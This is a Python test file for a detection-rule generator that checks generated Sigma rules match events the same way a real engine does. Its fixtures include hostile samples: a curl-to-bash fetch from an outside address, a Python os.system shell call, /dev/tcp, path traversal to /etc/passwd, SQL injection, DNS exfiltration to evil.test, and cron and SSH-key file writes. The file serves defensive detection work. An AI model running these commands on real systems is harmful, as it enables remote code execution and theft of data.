"""Atoms are judged as the real engine judges them, whatever an attacker wrote into a field."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import numpy as np
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from made_finds import ALERT, asked, connected, ground, hits, laid, ran, requested, touched

from lichen.share.atoms import Atom, atoms_of, holds
from lichen.share.fields import DIALECTS, Ground, grounds_of, lines_of
from lichen.share.forms import FORMS
from lichen.share.sigma import literal, sigma_of

NASTY = [
    "\\",
    "*",
    "?",
    "\\*",
    "\\\\?",
    "'",
    '"',
    ": ",
    "#",
    "%",
    "ß",
    "İ",
    "K",
    "\n",
    "\t",
    "{",
    "&x",
    "!a",
    "~",
    "é",
    "-",
]
TEXT = st.lists(st.one_of(st.sampled_from(NASTY), st.text("aB/. 0", max_size=4)), min_size=1, max_size=5).map("".join)


def agree(atom: Atom, rows: list[tuple[str, dict[str, object]]], kind: str, folder: Path) -> None:
    """`holds` and the rules engine say the same of every row."""
    (batch,) = laid(rows)
    (found,) = lines_of(batch)
    base = Ground(DIALECTS[kind], found.lines.with_columns(seen=pl.lit(1)), len(batch))
    proof: dict[str, Any] = {"hit": {}, "miss": {}, "near_miss": {}, "date": "2026-11-18"}
    rule = sigma_of(ALERT, DIALECTS[kind], [atom], support=1, benign_hits=0, benign_events=1, **proof)
    assert hits(rule.sigma, [batch], folder) == [np.flatnonzero(holds(atom, base)).tolist()], rule.sigma


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(["", "contains", "startswith", "endswith"]), TEXT, st.lists(TEXT, min_size=1, max_size=5))
def test_a_literal_means_itself_in_the_real_engine(
    tmp_path_factory: pytest.TempPathFactory, modifier: str, value: str, others: list[str]
) -> None:
    folder = tmp_path_factory.mktemp("rule")
    lines = [value, value.swapcase(), f"x{value}y", f"{value}y", f"x{value}", *others]
    agree(
        Atom("CommandLine", modifier, value, 1.0), [ran("/bin/x", line) for line in lines], "process_creation", folder
    )


@pytest.mark.parametrize("modifier", ["", "contains", "startswith", "endswith"])
def test_letters_with_odd_cases_are_compared_alike(tmp_path: Path, modifier: str) -> None:
    letters = ["İ", "i", "I", "ı", "K", "k", "ſ", "s", "ß", "ẞ", "ss", "Ǆ", "ǆ", "ǅ", "Σ", "ς"]
    for letter in letters:
        atom = Atom("CommandLine", modifier, letter, 1.0)
        agree(atom, [ran("/bin/x", line) for line in letters], "process_creation", tmp_path)


def test_every_atom_that_is_tried_is_judged_as_the_real_engine_judges_it(tmp_path: Path) -> None:
    python = "python3 -c 'import os;os.system(\"id|sh\")' 203.0.113.9:81 >/tmp/.x"
    http = requested("/api/orders/17/items", "a=../../etc/passwd&b='x+or+1=1", "curl/8.1", 500)
    exfil = "4d5a90000300000004000000ffff0000.x.y.evil.test"
    rows = {
        "process_creation": [ran("/usr/bin/python3.11", python), ran("/opt/a*b?", "\\x41\\x42\\x43 -e $(id) `w`")],
        "network_connection": [connected("203.0.113.9", 4444, "/tmp/.a"), connected("2001:db8::7", 443, "/x/y")],
        "file_event": [touched("/etc/cron.d/x12345.sh", "/bin/sh"), touched("/home/ada/.ssh/keys", "/dev/shm/b")],
        "webserver": [http, requested("/", "", "Mozilla/5.0 (X11)")],
        "dns": [asked(exfil, "TXT"), asked("www.example.org")],
    }
    tried = 0
    for kind, told in rows.items():
        lines = grounds_of(laid(told))[kind]
        for atom in atoms_of([lines.line(i) for i in range(len(lines.lines))], lines):
            agree(atom, told, kind, tmp_path / str(tried))
            tried += 1
    assert tried > 100


def test_every_form_can_be_found_and_is_told_in_words() -> None:
    """A form that no text can have would be dead weight."""
    shell = "sh -c 'curl http://203.0.113.9:81/|bash;a|python >/tmp/.x `id`' /dev/tcp/1 ../../../x "
    texts = {
        "CommandLine": [shell + "\\x41\\x42\\x43 " + "A" * 200, "python3 -c 'import os'"],
        "path": ["/tmp/x", "/a/.b", "/root/x", "/usr/bin/x", "/a/b123"],
        "query": [
            "a=%3B+cat+x",
            "a=https://x",
            "a='%29;../../x'or+1=1<b>/etc/203.0.113.9" + "b" * 130,
            "a=" + "b" * 130,
        ],
        "dns": [f"{'deadbee0' * 6}.a.b.c.d.e.test"],
    }
    for sort, forms in FORMS.items():
        for form, words in forms.items():
            assert any(re.search(form, text) for text in texts[sort]), form
            assert words


def test_what_the_attacker_brought_along_is_dearer_than_what_the_estate_knows() -> None:
    base = ground()["process_creation"]
    line = base.line(0) | {"CommandLine": "gzip kxtool 4711", "Image": "/opt/kx7"}
    atoms = {atom.key: atom.bits for atom in atoms_of([line], base)}
    known, strange = atoms["CommandLine", "contains", "gzip"], atoms["CommandLine", "contains", "kxtool"]
    assert known < strange
    assert atoms["CommandLine", "contains", "4711"] > known
    assert atoms["ParentImage", "contains", "/python"] < atoms["Image", "", "/opt/kx7"]


def test_wildcards_and_backslashes_are_escaped() -> None:
    assert literal("a*b?c\\d\\*") == "a\\*b\\?c\\\\d\\\\\\*"
